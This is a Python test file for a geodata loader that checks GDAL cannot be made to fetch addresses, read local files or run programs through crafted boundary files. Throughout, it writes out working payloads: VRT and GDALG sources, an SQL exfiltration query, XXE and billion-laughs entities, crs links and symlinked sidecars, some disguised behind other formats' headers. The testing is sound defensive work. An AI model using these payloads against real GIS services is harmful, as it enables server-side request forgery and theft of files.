"""A boundary file is data: whatever it says, no address, no other file and no program is opened.

Each detector is shown to see what it is for: the same attack, given to GDAL or PROJ as they come, sets it off.
"""

from __future__ import annotations

import json
import os
import subprocess
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pyogrio
import pytest
from watch import Watch, as_gdal_comes, attempt, write

from geo.atlas.formats import gdal_apart
from geo.atlas.formats.gdal_apart import read_apart
from geo.atlas.load import load_countries

if TYPE_CHECKING:
    import sqlite3
    from collections.abc import Callable, Iterator

    Edit = Callable[[sqlite3.Connection, str], object]

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")

ENDINGS = (
    "geojson", "json", "gpkg", "shp", "zip", "fgb", "kml", "kmz", "gml", "xml", "parquet", "geoparquet", "vrt", "gfs",
    "csv", "gdb", "txt",
)  # fmt: skip


def vrt(source: str, query: str = "") -> str:
    inner = f"<SrcDataSource>{source}</SrcDataSource>{query}"
    return f'<OGRVRTDataSource><OGRVRTLayer name="secret">{inner}</OGRVRTLayer></OGRVRTDataSource>'


def collection(**members: object) -> str:
    polygon = {"type": "Polygon", "coordinates": [[[40, 30], [60, 30], [60, 45], [40, 45], [40, 30]]]}
    feature = {"type": "Feature", "properties": {"country": "AAA"}, "geometry": polygon}
    return json.dumps({"type": "FeatureCollection", "features": [feature], **members})


def crs(kind: str, **properties: str) -> str:
    return collection(crs={"type": kind, "properties": properties})


SQL = "<SrcSQL dialect='SQLITE'>SELECT ogr_datasource_load_layers('/vsicurl/{}/' || country) FROM secret</SrcSQL>"
# what GDAL and its libraries obey, each with what it does when it is obeyed here
OBEYED = {
    "VRT of an address": (lambda w: vrt(f"/vsicurl/{w.url}/a.geojson"), "request"),
    "VRT of a file": (lambda w: vrt(str(w.secret)), "secret"),
    "VRT of a program": (lambda _: vrt("GPSBabel:gpx,option=1:/etc/hostname"), "program"),
    "VRT of a query": (lambda w: vrt(str(w.secret), SQL.format(w.url)), "secret"),
    "WFS": (lambda w: f"<OGRWFSDataSource><URL>{w.url}/wfs</URL></OGRWFSDataSource>", "request"),
    "GDALG of an address": (lambda w: gdalg(f"/vsicurl/{w.url}/b.geojson"), "request"),
    "GDALG of a file": (lambda w: gdalg(str(w.secret)), "secret"),
    "crs of a link": (lambda w: crs("link", href=f"{w.url}/crs", type="ogcwkt"), "request"),
    "crs of an address": (lambda w: crs("url", url=f"{w.url}/crs"), "request"),
}
# what might be obeyed, by another version or with another setting
OTHERS = {
    "crs of a name that is an address": lambda w: crs("name", name=f"{w.url}/crs"),
    "crs of a name that is a file": lambda w: crs("name", name=str(w.secret)),
    "crs of a file of codes": lambda w: crs("name", name=f"+init={w.secret}:1"),
    "VRT of a zip": lambda w: vrt(f"/vsizip/{w.secret}/a.geojson"),
    "WMS": lambda w: f"<GDAL_WMS><Service name='TMS'><ServerUrl>{w.url}/</ServerUrl></Service></GDAL_WMS>",
    "CSW": lambda w: f"<OGRCSWDataSource><URL>{w.url}</URL></OGRCSWDataSource>",
    "raster VRT": lambda w: f"<VRTDataset><SourceFilename>{w.secret}</SourceFilename></VRTDataset>",
    "path": lambda w: str(w.secret),
    "address": lambda w: f"/vsicurl/{w.url}/a.geojson",
    "entity": lambda w: f'<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{w.secret}">]><kml>&x;</kml>',
    "remote entity": lambda w: f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{w.url}/x">]><kml>&x;</kml>',
    "remote type": lambda w: f'<!DOCTYPE kml SYSTEM "{w.url}/kml.dtd"><kml></kml>',
}
BODIES = {**{name: make for name, (make, _) in OBEYED.items()}, **OTHERS}


def gdalg(source: str) -> str:
    return json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {source}"})


def disguises(body: str) -> Iterator[tuple[str, bytes]]:
    """Yield the body as it is, in other encodings, and behind the mark of every format."""
    raw = body.encode()
    yield "plain", raw
    yield "marked UTF-8", b"\xef\xbb\xbf" + raw
    yield "UTF-16", body.encode("utf-16")
    yield "indented", b"\n\n   " + raw
    yield "commented", b"<!-- <kml> { -->" + raw
    yield "as GeoPackage", b"SQLite format 3\x00" + raw
    yield "as FlatGeobuf", b"fgb\x03fgb\x00" + raw
    yield "as GeoParquet", b"PAR1" + raw + b"PAR1"
    yield "as shapefile", b"\x00\x00\x27\x0a" + raw
    yield "as zip", b"PK\x03\x04" + raw
    yield "as gzip", b"\x1f\x8b" + raw
    yield "within KML", b"<kml>" + raw + b"</kml>"
    yield "within GML", b'<a xmlns:gml="http://www.opengis.net/gml">' + raw + b"</a>"


# --- the detectors


@pytest.mark.parametrize("name", OBEYED)
def test_what_gdal_obeys_is_seen(watch: Watch, name: str) -> None:
    make, deed = OBEYED[name]
    path = watch.folder / "states.geojson"
    path.write_text(make(watch))
    assert not watch.seen()
    as_gdal_comes(path)
    assert deed in watch.seen()


@pytest.mark.parametrize("name", ["crs of a link", "crs of an address"])
def test_the_process_of_gdal_has_no_network(watch: Watch, name: str) -> None:
    """Even with a driver that fetches links, which has nothing to do here."""
    body = BODIES[name](watch)
    assert list(read_apart(body.encode(), "GeoJSON"))
    assert not watch.seen()
    path = watch.folder / "states.geojson"
    path.write_text(body)
    as_gdal_comes(path)
    assert watch.seen() == {"request"}


@pytest.mark.parametrize("settings", ["/nonexistent", None])
def test_known_namespaces_of_gml_fetch_no_schema(
    watch: Watch, monkeypatch: pytest.MonkeyPatch, settings: str | None
) -> None:
    """GDAL's list of schemas, exchanged for one that leads here; the control has no settings of ours."""
    feature = f'<featureType elementName="place" schemaLocation="{watch.url}/place.xsd"/>'
    space = f'<namespace prefix="our" uri="{watch.url}/our">{feature}</namespace>'
    (watch.folder / "registry.xml").write_text(f"<gml_registry>{space}</gml_registry>")
    ring = "<gml:posList>30 40 30 60 45 60 45 40 30 40</gml:posList>"
    shape = f"<gml:Polygon><gml:exterior><gml:LinearRing>{ring}</gml:LinearRing></gml:exterior></gml:Polygon>"
    place = f"<our:place><our:country>AAA</our:country><our:shape>{shape}</our:shape></our:place>"
    names = f'xmlns:our="{watch.url}/our" xmlns:gml="http://www.opengis.net/gml"'
    body = f"<gml:FeatureCollection {names}><gml:featureMember>{place}</gml:featureMember></gml:FeatureCollection>"
    path = watch.folder / "states.gml"
    path.write_text(body)
    if settings is None:
        pyogrio.set_gdal_config_options({"GML_REGISTRY": str(watch.folder / "registry.xml")})
        as_gdal_comes(path)
        pyogrio.set_gdal_config_options({"GML_REGISTRY": None})
        assert watch.seen() == {"request"}
        return
    # either of the two, the namespace left out and the network shut, is enough
    monkeypatch.setitem(gdal_apart._SETTINGS, "GML_REGISTRY", str(watch.folder / "registry.xml"))
    assert load_countries(path).codes == ("AAA",)
    assert list(read_apart(body.encode(), "GML"))
    assert not watch.seen()


def test_gdal_runs_in_a_folder_of_this_package(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It looks for its own lists, and Python for modules, where it runs."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyogrio.py").write_text("raise SystemExit('the wrong module')")
    ran: list[dict[str, object]] = []
    run = subprocess.run

    def note(*args: object, **options: object) -> object:
        ran.append(options)
        return run(*args, **options)  # type: ignore[call-overload]

    monkeypatch.setattr(gdal_apart.subprocess, "run", note)
    assert load_countries(write(tmp_path, "fgb")).codes == ("AAA", "BBB")
    assert [Path(str(options["cwd"])) for options in ran] == [Path(gdal_apart.__file__).parent]


# --- one file


@pytest.mark.parametrize("name", BODIES)
def test_no_attack_works_under_any_ending_or_disguise(watch: Watch, name: str) -> None:
    refused = 0
    for how, raw in disguises(BODIES[name](watch)):
        # those that GDAL gets to see take long, and for it the ending is lost
        for ending in ENDINGS[:1] if how.startswith("within") else ENDINGS:
            path = watch.folder / f"{how}.{ending}"
            path.write_bytes(raw)
            assert attempt(path), path
            assert not watch.seen(), path
            refused += 1
    assert refused == 11 * len(ENDINGS) + 2


@pytest.mark.parametrize("name", BODIES)
def test_no_attack_works_within_a_zip(watch: Watch, name: str) -> None:
    body = BODIES[name](watch)
    for ending in ENDINGS:
        path = watch.folder / f"{ending}.zip"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr(f"states.{ending}", body)
            archive.writestr(f"../../states.{ending}", body)
        assert attempt(path), path
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr(f"states.{ending}", body)
        assert attempt(path), path
    assert not watch.seen()


def test_a_path_is_a_file_and_never_an_address(watch: Watch, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(watch.folder)
    secret, url = watch.secret, watch.url
    paths = [
        f"/vsicurl/{url}/a.geojson", f"{url}/a.geojson", f"https{url[4:]}/a", f"/vsizip/{secret}",
        f"/vsizip/vsicurl/{url}",
        f"/vsigzip/{secret}",
        f"/vsisubfile/0_100,{secret}", f"zip://{secret}", f"file://{secret}", f"GeoJSON:{secret}",
        f"WFS:{url}", "PG:dbname=x", f"ESRIJSON:{url}", f"OAPIF:{url}", f"CSV:{secret}", "GPSBabel:gpx:/etc/hostname",
        vrt(str(secret)), vrt(f"/vsicurl/{url}/a"), crs("link", href=url), f"/vsistdin/{secret}", f"s3://{secret}",
    ]  # fmt: skip
    for path in paths:
        message = attempt(path)
        assert "an address and not a file" in message or "does not exist" in message or "be reached" in message, path
    assert not watch.seen()
    # the detectors know these, too
    as_gdal_comes(f"/vsicurl/{url}/a.geojson")  # type: ignore[arg-type]
    as_gdal_comes(f"GeoJSON:{secret}")  # type: ignore[arg-type]
    assert watch.seen() == {"request", "secret"}


def test_pipes_devices_and_folders_are_refused(watch: Watch) -> None:
    pipe = watch.folder / "pipe.geojson"
    os.mkfifo(pipe)
    assert "pipe or a device" in attempt(pipe)
    assert "pipe or a device" in attempt("/dev/zero")
    assert "is a folder" in attempt(watch.folder)


# --- files of an admitted format that say more


def changed(path: Path, *pairs: tuple[str, str]) -> Path:
    text = path.read_text(encoding="utf-8")
    for old, new in pairs:
        assert old in text
        text = text.replace(old, new)
    path.write_text(text, encoding="utf-8")
    return path


SIDECARS = (
    "prj", "cpg", "qpj", "qix", "sbn", "sbx", "xsd", "gfs", "gml.gfs", "shp.xml", "aux.xml", "gpkg-shm", "idm", "ind",
    "vrt", "resolved.gml", "geojson", "csvt", "ovr", "id",
)  # fmt: skip


@pytest.mark.parametrize("name", ["VRT of an address", "VRT of a file", "VRT of a program", "crs of a link", "path"])
@pytest.mark.parametrize("ending", ["shp", "gml", "kml", "fgb", "gpkg"])
def test_no_attack_works_from_beside_a_file(watch: Watch, ending: str, name: str) -> None:
    path = write(watch.folder, ending)
    body = BODIES[name](watch)
    for sidecar in SIDECARS:
        path.with_suffix(f".{sidecar}").write_text(body)
    (watch.folder / f"states.{ending}.aux.xml").write_text(body)
    assert not watch.seen()
    message = attempt(path)
    assert not watch.seen()
    assert ("coordinate system" in message) == (ending == "shp")
    path.with_suffix(".prj").unlink()
    assert load_countries(path).codes == ("AAA", "BBB")
    assert not watch.seen()


@pytest.mark.parametrize("sidecar", ["shx", "dbf", "prj", "cpg"])
def test_no_other_file_is_read_through_a_link_beside_a_shapefile(watch: Watch, sidecar: str) -> None:
    path = write(watch.folder, "shp")
    path.with_suffix(f".{sidecar}").unlink()
    path.with_suffix(f".{sidecar}").symlink_to(watch.secret)
    assert f"'states.{sidecar}' beside it is a link" in attempt(path)
    assert not watch.seen()
    as_gdal_comes(path)
    assert watch.seen() == {"secret"}


def test_no_pipe_beside_a_shapefile_is_opened(watch: Watch) -> None:
    path = write(watch.folder, "shp")
    path.with_suffix(".prj").unlink()
    os.mkfifo(path.with_suffix(".prj"))
    assert "'states.prj' is a pipe or a device" in attempt(path)


def test_gml_reaches_for_nothing(watch: Watch) -> None:
    path = write(watch.folder, "gml")
    original = path.read_text(encoding="utf-8")
    other = f'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{watch.url}/x#y"'
    ours = {
        "schema": ("http://ogr.maptools.org/ states.xsd", f"http://ogr.maptools.org/ {watch.url}/a.xsd"),
        "local schema": ("http://ogr.maptools.org/ states.xsd", f"http://ogr.maptools.org/ {watch.secret}"),
        "link": ("<gml:Polygon ", f"<gml:Polygon {other} "),
        "comment": ("<ogr:featureMember>", f"<!-- schemaLocation='{watch.url}/c.xsd' --><ogr:featureMember>"),
    }
    for case, pair in ours.items():
        path.write_text(original, encoding="utf-8")
        assert load_countries(changed(path, pair)).codes == ("AAA", "BBB"), case
        assert not watch.seen(), case
    pyogrio.set_gdal_config_options({"GML_SKIP_RESOLVE_ELEMS": "NONE"})
    try:
        path.write_text(original, encoding="utf-8")
        as_gdal_comes(changed(path, ours["link"]))
    finally:
        pyogrio.set_gdal_config_options({"GML_SKIP_RESOLVE_ELEMS": None})
    assert watch.seen() == {"request"}
    with pytest.warns(UserWarning, match=r"^states.gml: 2 link\(s\) in it to other files are not followed$"):
        load_countries(path)


@pytest.mark.parametrize("name", ["{url}/srs", "{secret}", "+init={secret}:1", "urn:ogc:def:crs:EPSG::1 {secret}"])
def test_coordinate_systems_of_gml_are_names(watch: Watch, name: str) -> None:
    path = write(watch.folder, "gml")
    changed(path, ("urn:ogc:def:crs:EPSG::4326", name.format(url=watch.url, secret=watch.secret)))
    assert "is no known name" in attempt(path)
    assert not watch.seen()


def test_kml_reaches_for_nothing(watch: Watch) -> None:
    link = f"<NetworkLink><Link><href>{watch.url}/n.kml</href></Link></NetworkLink>"
    icon = f"<Style><IconStyle><Icon><href>{watch.secret}</href></Icon></IconStyle></Style>"
    style = f'<?xml-stylesheet href="{watch.url}/a.xsl"?><styleUrl>{watch.url}/s.kml#x</styleUrl>{icon}'
    path = write(watch.folder, "kml")
    changed(path, ("<Placemark", f"{link}<Placemark"), ("<Polygon>", f"{style}<Polygon>"))
    with pytest.warns(UserWarning, match=r"2 link\(s\) in it to other files are not followed"):
        assert load_countries(path).codes == ("AAA", "BBB")
    assert not watch.seen()


@pytest.mark.parametrize("ending", ["kml", "gml"])
def test_document_types_are_refused_with_all_entities(watch: Watch, ending: str) -> None:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    types = [
        f'[<!ENTITY x SYSTEM "file://{watch.secret}">]', f'[<!ENTITY x SYSTEM "{watch.url}/x">]',
        f'SYSTEM "{watch.url}/t.dtd"', f'[<!ENTITY % p SYSTEM "{watch.url}/p">%p;]',
        f'[<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l9;">]', "",
    ]  # fmt: skip
    for number, doctype in enumerate(types):
        path = write(watch.folder, ending)
        text = path.read_text(encoding="utf-8").replace("Aland", "&x;" if "ENTITY x" in doctype else "Aland")
        head, _, rest = text.partition("?>")
        path.write_text(f"{head}?><!DOCTYPE a {doctype}>{rest}", encoding="utf-8")
        assert "document type" in attempt(path), number
        path.write_text(f"{head}?><!DOCTYPE a {doctype}>{rest}".replace("UTF-8", "UTF-16"), encoding="utf-16")
        assert attempt(path), number
        path.unlink()
    assert not watch.seen()
